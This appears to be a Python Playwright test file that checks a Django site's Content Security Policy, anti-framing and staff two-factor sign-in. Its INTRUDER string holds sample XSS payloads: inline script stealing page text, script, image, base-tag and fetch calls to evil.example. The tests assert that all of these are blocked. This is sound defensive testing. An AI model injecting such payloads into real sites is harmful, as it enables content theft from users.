"""The policy in a real browser: it refuses nothing that our pages need, and whatever an intruder brings."""

from pathlib import Path
from typing import Any

import pyotp
import pytest
from django.contrib import admin

from accounts.models import User
from tests.admin.conftest import compiled_words, fit_engine  # noqa: F401 (a fixture)
from tests.admin.test_pages import furnish
from tests.browser.test_admin_browser import is_no_wider_than, sign_in, town_staff  # noqa: F401 (a fixture)
from tests.factories import PASSWORD

pytestmark = [
    pytest.mark.browser,
    pytest.mark.serial,
    pytest.mark.django_db(transaction=True, serialized_rollback=True),
]


def test_no_page_of_the_admin_is_refused_anything(
    open_page: Any,
    complaints: list[str],
    town_staff: User,  # noqa: F811
    compiled_words: None,  # noqa: F811
) -> None:
    User.objects.filter(pk=town_staff.pk).update(is_superuser=True)
    furnish(0)
    fit_engine()
    page = open_page(width=1280)
    sign_in(page)
    opened = 0
    for model in admin.site._registry:
        at = f"/admin/{model._meta.app_label}/{model._meta.model_name}/"
        row = model._default_manager.first()
        for url in [at] if row is None else [at, f"{at}{row.pk}/change/", f"{at}{row.pk}/history/"]:
            assert page.goto(url).status == 200, url
            assert complaints == [], url
            opened += 1
    assert opened > 40
    for url in ("/admin/accounts/user/add/", "/admin/matching/match/add/", "/admin/password_change/"):
        page.goto(url)
    assert complaints == []


def test_swagger_unfolds_and_sends_a_request_within_the_policy(open_page: Any, complaints: list[str]) -> None:
    page = open_page(width=1300)
    page.goto("/api/v1/docs/")
    block = page.locator("[id*=styles_list]").first
    block.locator(".opblock-summary-control").click()
    block.locator(".try-out__btn").click()
    block.locator(".execute").click()
    block.locator(".live-responses-table tbody .response-col_status").first.wait_for()
    assert "200" in block.locator(".live-responses-table tbody").first.inner_text()
    assert complaints == []


INTRUDER = """() => new Promise(resolve => {
    const refused = [];
    document.addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "window.stolen = document.body.innerText";
    document.body.append(script);
    const elsewhere = document.createElement("script");
    elsewhere.src = "https://evil.example/x.js";
    document.body.append(elsewhere);
    const holder = document.createElement("div");
    holder.innerHTML = '<img src="https://evil.example/p.png" onerror="window.stolen = 1"><style>a{}</style>';
    document.body.append(holder);
    const base = document.createElement("base");
    base.href = "https://evil.example/";
    document.head.append(base);
    fetch("https://evil.example/").catch(() => {});
    setTimeout(() => resolve({stolen: window.stolen ?? null, refused, base: document.baseURI}), 500);
})"""


@pytest.mark.parametrize("url", ["/admin/login/", "/api/v1/docs/"])
def test_an_intruders_script_does_not_run(open_page: Any, url: str) -> None:
    page = open_page(width=1280)
    page.goto(url)
    found = page.evaluate(INTRUDER)
    assert found["stolen"] is None and "evil" not in found["base"]
    refused = set(found["refused"])
    assert {
        "script-src-elem",
        "script-src-attr",
        "style-src-elem",
        "img-src",
        "connect-src",
        "base-uri",
    } <= refused


def test_no_other_site_can_frame_a_page(open_page: Any, live_server: Any) -> None:
    page = open_page(width=1280)
    page.set_content(f'<iframe src="{live_server.url}/admin/login/"></iframe>')
    page.wait_for_timeout(500)
    assert not any("username" in frame.content() for frame in page.frames[1:])


@pytest.mark.parametrize("width", [1280, 390])
def test_staff_add_an_authenticator_and_sign_in_by_it(
    open_page: Any,
    complaints: list[str],
    town_staff: User,  # noqa: F811
    compiled_words: None,  # noqa: F811
    settings: Any,
    tmp_path: Path,
    width: int,
) -> None:
    settings.STAFF_TOTP = True
    page = open_page(width=width, language="en-US")
    page.goto("/admin/matching/match/")
    page.fill("input[name=username]", "13800138000")
    page.fill("input[name=password]", PASSWORD)
    page.click("input[type=submit]")
    page.wait_for_selector(".qr-code svg path")
    page.screenshot(path=tmp_path / f"{width}-add.png", full_page=True)
    assert is_no_wider_than(page, width)
    assert page.locator(".qr-code svg").bounding_box()["width"] > 150
    totp = pyotp.TOTP(page.inner_text(".totp-secret"))
    page.fill("input[name=code]", totp.now())
    page.click("input[type=submit]")
    page.wait_for_selector(".recovery-codes")
    page.screenshot(path=tmp_path / f"{width}-codes.png", full_page=True)
    recovery = page.locator(".recovery-codes code").first.inner_text()
    page.click("text=I have kept them")
    page.wait_for_selector("#changelist")

    page.click("#logout-form button")
    page.goto("/admin/")
    page.fill("input[name=username]", "13800138000")
    page.fill("input[name=password]", PASSWORD)
    page.click("input[type=submit]")
    page.wait_for_selector("input[name=code]")
    assert page.locator(".qr-code").count() == 0
    page.fill("input[name=code]", "000000")
    page.click("input[type=submit]")
    page.wait_for_selector(".errorlist")
    page.screenshot(path=tmp_path / f"{width}-wrong.png", full_page=True)
    assert is_no_wider_than(page, width)
    page.fill("input[name=code]", recovery)
    page.click("input[type=submit]")
    page.wait_for_selector(".board")
    assert complaints == []
